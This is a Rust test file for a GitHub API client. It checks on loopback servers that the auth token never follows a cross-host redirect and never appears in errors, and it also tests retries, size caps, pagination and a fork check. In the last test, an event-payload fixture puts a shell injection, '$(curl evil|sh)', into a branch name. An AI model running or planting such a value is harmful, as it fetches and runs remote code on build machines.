//! The API client against loopback servers that mimic GitHub's endpoints:
//! the cross-host redirect to storage (the token must not follow), retries on
//! 5xx and rate limits, a body over the cap, pagination. Two listeners stand
//! for two hosts: `127.0.0.1:A` is the API, `localhost:B` the storage host.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use autoheal::github::{ApiError, Client, fork_run};

#[derive(Debug, Clone)]
struct Req {
    target: String,
    headers: Vec<(String, String)>,
}

impl Req {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

struct Resp {
    status: u16,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
    /// Send `Content-Length` (else the body is close-delimited).
    length: bool,
}

fn resp(status: u16, body: &[u8]) -> Resp {
    Resp {
        status,
        headers: vec![],
        body: body.to_vec(),
        length: true,
    }
}

fn redirect(to: &str) -> Resp {
    Resp {
        status: 302,
        headers: vec![("Location".into(), to.into())],
        body: vec![],
        length: true,
    }
}

type Handler = Box<dyn Fn(usize, &Req) -> Resp + Send + Sync>;

/// A one-thread HTTP/1.1 server answering each request from `handler(n, req)`
/// (n counts from 0) and closing the connection after it.
struct Server {
    port: u16,
    seen: Arc<Mutex<Vec<Req>>>,
}

impl Server {
    fn start(handler: Handler) -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = listener.local_addr().expect("addr").port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let seen2 = Arc::clone(&seen);
        std::thread::spawn(move || {
            for (n, stream) in listener.incoming().enumerate() {
                let Ok(stream) = stream else { continue };
                serve(stream, n, &handler, &seen2);
            }
        });
        Server { port, seen }
    }

    fn api(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn other_host(&self) -> String {
        format!("http://localhost:{}", self.port)
    }

    fn requests(&self) -> Vec<Req> {
        self.seen.lock().expect("lock").clone()
    }
}

/// Records the request before answering, so the client never sees a
/// response the test cannot yet see in `requests()`.
fn serve(stream: TcpStream, n: usize, handler: &Handler, seen: &Mutex<Vec<Req>>) -> Option<()> {
    let mut reader = BufReader::new(stream.try_clone().ok()?);
    let mut line = String::new();
    reader.read_line(&mut line).ok()?;
    let target = line.split_whitespace().nth(1)?.to_string();
    let mut headers = Vec::new();
    loop {
        let mut h = String::new();
        reader.read_line(&mut h).ok()?;
        let h = h.trim_end();
        if h.is_empty() {
            break;
        }
        if let Some((k, v)) = h.split_once(':') {
            headers.push((k.trim().to_string(), v.trim().to_string()));
        }
    }
    let req = Req { target, headers };
    let r = handler(n, &req);
    seen.lock().ok()?.push(req);
    let mut out = Vec::new();
    let _ = write!(out, "HTTP/1.1 {} X\r\nConnection: close\r\n", r.status);
    for (k, v) in &r.headers {
        let _ = write!(out, "{k}: {v}\r\n");
    }
    if r.length {
        let _ = write!(out, "Content-Length: {}\r\n", r.body.len());
    }
    out.extend_from_slice(b"\r\n");
    out.extend_from_slice(&r.body);
    let mut stream = stream;
    let _ = stream.write_all(&out);
    let _ = stream.flush();
    // Drain what the client may still send, then close.
    let _ = stream.shutdown(std::net::Shutdown::Write);
    let _ = reader.read(&mut [0u8; 16]);
    Some(())
}

const TOKEN: &str = "ghs_TESTTOKENtesttokenTESTTOKENtesttoken12";

fn recording_sleeper() -> (Arc<Mutex<Vec<Duration>>>, autoheal::github::Sleeper) {
    let log = Arc::new(Mutex::new(Vec::new()));
    let l2 = Arc::clone(&log);
    (log, Box::new(move |d| l2.lock().expect("lock").push(d)))
}

#[test]
fn token_does_not_follow_cross_host_redirect() {
    let storage = Server::start(Box::new(|_, _| resp(200, b"PK\x03\x04zipdata")));
    let to = format!("{}/blob/logs.zip?sig=abc", storage.other_host());
    let api = Server::start(Box::new(move |_, _| redirect(&to)));
    let client = Client::new(&api.api(), Some(TOKEN.into())).expect("client");
    let body = client.run_logs("octo/repo", 42).expect("download");
    assert_eq!(body, b"PK\x03\x04zipdata");

    let a = api.requests();
    assert_eq!(a.len(), 1);
    assert_eq!(a[0].target, "/repos/octo/repo/actions/runs/42/logs");
    assert_eq!(
        a[0].header("authorization"),
        Some(format!("Bearer {TOKEN}").as_str())
    );
    assert_eq!(a[0].header("accept"), Some("application/vnd.github+json"));
    assert_eq!(a[0].header("x-github-api-version"), Some("2022-11-28"));
    assert!(
        a[0].header("user-agent")
            .is_some_and(|u| u.starts_with("autoheal/"))
    );

    let s = storage.requests();
    assert_eq!(s.len(), 1);
    assert_eq!(s[0].target, "/blob/logs.zip?sig=abc");
    assert_eq!(
        s[0].header("authorization"),
        None,
        "token leaked to storage"
    );
    for (_, v) in &s[0].headers {
        assert!(!v.contains(TOKEN));
    }
}

#[test]
fn same_host_redirect_keeps_the_token() {
    let api = Server::start(Box::new(|n, _| {
        if n == 0 {
            redirect("/moved")
        } else {
            resp(200, b"log text")
        }
    }));
    let client = Client::new(&api.api(), Some(TOKEN.into())).expect("client");
    assert_eq!(client.job_logs("o/r", 9).expect("download"), b"log text");
    let reqs = api.requests();
    assert_eq!(reqs[0].target, "/repos/o/r/actions/jobs/9/logs");
    assert_eq!(reqs[1].target, "/moved");
    assert!(reqs[1].header("authorization").is_some());
}

#[test]
fn redirect_to_plain_http_elsewhere_is_refused() {
    let api = Server::start(Box::new(|_, _| redirect("http://example.com/logs.zip")));
    let client = Client::new(&api.api(), Some(TOKEN.into())).expect("client");
    let err = client.run_logs("o/r", 1).expect_err("refused");
    assert!(matches!(err, ApiError::BadRedirect { .. }), "{err}");
    assert_eq!(
        err.to_string(),
        "could not download logs for run 1: refusing redirect to a non-HTTPS URL"
    );
}

#[test]
fn more_than_five_redirects_are_refused() {
    let api = Server::start(Box::new(|n, _| redirect(&format!("/r{n}"))));
    let client = Client::new(&api.api(), None).expect("client");
    let err = client.run_logs("o/r", 1).expect_err("refused");
    assert!(matches!(err, ApiError::TooManyRedirects { .. }), "{err}");
    assert_eq!(api.requests().len(), 6);
}

#[test]
fn server_errors_are_retried_then_succeed() {
    let api = Server::start(Box::new(|n, _| {
        if n < 2 {
            resp(502, b"bad gateway")
        } else {
            resp(200, b"ok")
        }
    }));
    let (slept, sleeper) = recording_sleeper();
    let client = Client::new(&api.api(), None)
        .expect("client")
        .with_sleeper(sleeper);
    assert_eq!(client.run_logs("o/r", 5).expect("download"), b"ok");
    assert_eq!(api.requests().len(), 3);
    assert_eq!(
        *slept.lock().expect("lock"),
        [Duration::from_secs(1), Duration::from_secs(2)]
    );
}

#[test]
fn retries_exhausted_give_the_interface_error() {
    let api = Server::start(Box::new(|_, _| resp(503, b"")));
    let (slept, sleeper) = recording_sleeper();
    let client = Client::new(&api.api(), Some(TOKEN.into()))
        .expect("client")
        .with_sleeper(sleeper);
    let err = client.run_logs("o/r", 77).expect_err("fails");
    assert_eq!(
        err.to_string(),
        "could not download logs for run 77: HTTP 503"
    );
    assert!(!format!("{err:?}").contains(TOKEN));
    // One attempt and three retries.
    assert_eq!(api.requests().len(), 4);
    assert_eq!(slept.lock().expect("lock").len(), 3);
}

#[test]
fn rate_limits_honour_retry_after_and_reset() {
    let api = Server::start(Box::new(|n, _| match n {
        0 => Resp {
            status: 429,
            headers: vec![("Retry-After".into(), "3".into())],
            body: vec![],
            length: true,
        },
        1 => Resp {
            status: 403,
            headers: vec![
                ("X-RateLimit-Remaining".into(), "0".into()),
                ("X-RateLimit-Reset".into(), "0".into()),
            ],
            body: vec![],
            length: true,
        },
        _ => resp(200, b"done"),
    }));
    let (slept, sleeper) = recording_sleeper();
    let client = Client::new(&api.api(), None)
        .expect("client")
        .with_sleeper(sleeper);
    assert_eq!(client.job_logs("o/r", 1).expect("download"), b"done");
    assert_eq!(
        *slept.lock().expect("lock"),
        [Duration::from_secs(3), Duration::from_secs(1)]
    );
}

#[test]
fn retry_after_beyond_the_budget_stops_at_once() {
    let api = Server::start(Box::new(|_, _| Resp {
        status: 429,
        headers: vec![("Retry-After".into(), "3600".into())],
        body: vec![],
        length: true,
    }));
    let (slept, sleeper) = recording_sleeper();
    let client = Client::new(&api.api(), None)
        .expect("client")
        .with_sleeper(sleeper);
    let err = client.run_logs("o/r", 3).expect_err("fails");
    assert_eq!(
        err.to_string(),
        "could not download logs for run 3: HTTP 429 (rate limited: wait and run again)"
    );
    assert!(slept.lock().expect("lock").is_empty());
}

#[test]
fn plain_403_is_not_retried() {
    let api = Server::start(Box::new(|_, _| {
        resp(403, b"Resource not accessible by integration")
    }));
    let client = Client::new(&api.api(), None).expect("client");
    let err = client.run_logs("o/r", 8).expect_err("fails");
    let msg = err.to_string();
    assert!(
        msg.starts_with("could not download logs for run 8: HTTP 403 (forbidden: "),
        "{msg}"
    );
    assert!(
        msg.contains("`actions: read`") && msg.contains("rate limit"),
        "{msg}"
    );
    assert_eq!(api.requests().len(), 1);
}

#[test]
fn bodies_over_the_cap_are_dropped() {
    for length in [true, false] {
        let storage = Server::start(Box::new(move |_, _| Resp {
            status: 200,
            headers: vec![],
            body: vec![b'x'; 4097],
            length,
        }));
        let to = format!("{}/big", storage.other_host());
        let api = Server::start(Box::new(move |_, _| redirect(&to)));
        let client = Client::new(&api.api(), None)
            .expect("client")
            .with_max_body(4096);
        let err = client.run_logs("o/r", 1).expect_err("too large");
        assert!(
            matches!(err, ApiError::TooLarge { limit: 4096, .. }),
            "{err}"
        );
    }
    // Exactly at the cap is fine.
    let api = Server::start(Box::new(|_, _| resp(200, &[b'y'; 4096])));
    let client = Client::new(&api.api(), None)
        .expect("client")
        .with_max_body(4096);
    assert_eq!(client.run_logs("o/r", 1).expect("fits").len(), 4096);
}

fn jobs_page(from: usize, to: usize, total: usize) -> Vec<u8> {
    let jobs: Vec<String> = (from..to)
        .map(|i| {
            format!(
                r#"{{"id": {i}, "name": "job {i}", "status": "completed", "conclusion": "{}",
                   "steps": [{{"name": "Set up job", "number": 1, "conclusion": "success"}},
                             {{"name": "Run tests", "number": 2, "conclusion": "failure"}}]}}"#,
                if i == 120 { "failure" } else { "success" }
            )
        })
        .collect();
    format!(
        r#"{{"total_count": {total}, "jobs": [{}]}}"#,
        jobs.join(",")
    )
    .into_bytes()
}

#[test]
fn jobs_are_paginated() {
    let api = Server::start(Box::new(|_, req| {
        if req.target.ends_with("page=1") {
            resp(200, &jobs_page(0, 100, 150))
        } else if req.target.ends_with("page=2") {
            resp(200, &jobs_page(100, 150, 150))
        } else {
            resp(404, b"")
        }
    }));
    let client = Client::new(&api.api(), Some(TOKEN.into())).expect("client");
    let jobs = client.run_jobs("o/r", 11).expect("jobs");
    assert_eq!(jobs.len(), 150);
    let failed: Vec<_> = jobs
        .iter()
        .filter(|j| j.conclusion.as_deref() == Some("failure"))
        .collect();
    assert_eq!(failed.len(), 1);
    assert_eq!(failed[0].name, "job 120");
    assert_eq!(failed[0].steps[1].name, "Run tests");
    assert_eq!(failed[0].steps[1].number, 2);
    assert_eq!(failed[0].steps[1].conclusion.as_deref(), Some("failure"));
    let targets: Vec<String> = api.requests().into_iter().map(|r| r.target).collect();
    assert_eq!(
        targets,
        [
            "/repos/o/r/actions/runs/11/jobs?per_page=100&page=1",
            "/repos/o/r/actions/runs/11/jobs?per_page=100&page=2"
        ]
    );
}

#[test]
fn artifact_is_found_by_name_and_downloaded() {
    let storage = Server::start(Box::new(|_, _| resp(200, b"PKartifact")));
    let to = format!("{}/a.zip", storage.other_host());
    let api = Server::start(Box::new(move |_, req| {
        if req.target.contains("/runs/5/artifacts") {
            resp(
                200,
                br#"{"total_count": 2, "artifacts": [
                    {"id": 1, "name": "junit", "size_in_bytes": 10, "expired": true},
                    {"id": 2, "name": "junit", "size_in_bytes": 10, "expired": false}]}"#,
            )
        } else if req.target == "/repos/o/r/actions/artifacts/2/zip" {
            redirect(&to)
        } else {
            resp(404, b"")
        }
    }));
    let client = Client::new(&api.api(), Some(TOKEN.into())).expect("client");
    assert_eq!(
        client
            .artifact_by_name("o/r", 5, "junit")
            .expect("artifact"),
        b"PKartifact"
    );
    assert_eq!(storage.requests()[0].header("authorization"), None);
    let err = client
        .artifact_by_name("o/r", 5, "nope")
        .expect_err("missing");
    assert_eq!(err.to_string(), "no artifact named \"nope\" in run 5");
}

#[test]
fn malformed_json_is_an_error_not_a_panic() {
    let api = Server::start(Box::new(|_, _| resp(200, b"<html>not json")));
    let client = Client::new(&api.api(), None).expect("client");
    let err = client.run_jobs("o/r", 1).expect_err("bad json");
    assert!(
        err.to_string()
            .starts_with("could not download jobs of run 1: malformed JSON")
    );
}

#[test]
fn closed_port_is_a_transport_error_without_token() {
    let port = {
        let l = TcpListener::bind("127.0.0.1:0").expect("bind");
        l.local_addr().expect("addr").port()
    };
    let (_, sleeper) = recording_sleeper();
    let client = Client::new(&format!("http://127.0.0.1:{port}"), Some(TOKEN.into()))
        .expect("client")
        .with_sleeper(sleeper);
    let err = client.run_logs("o/r", 2).expect_err("refused");
    let msg = err.to_string();
    assert!(
        msg.starts_with("could not download logs for run 2: "),
        "{msg}"
    );
    assert!(!msg.contains(TOKEN) && !format!("{err:?}").contains(TOKEN));
}

#[test]
fn fork_check_on_event_payloads() {
    let same = br#"{"workflow_run": {"head_repository": {"full_name": "octo/app"}, "head_branch": "$(curl evil|sh)"}}"#;
    let fork = br#"{"workflow_run": {"head_repository": {"full_name": "mallory/app"}}}"#;
    assert!(!fork_run(same, "octo/app").expect("json"));
    assert!(fork_run(fork, "octo/app").expect("json"));
}
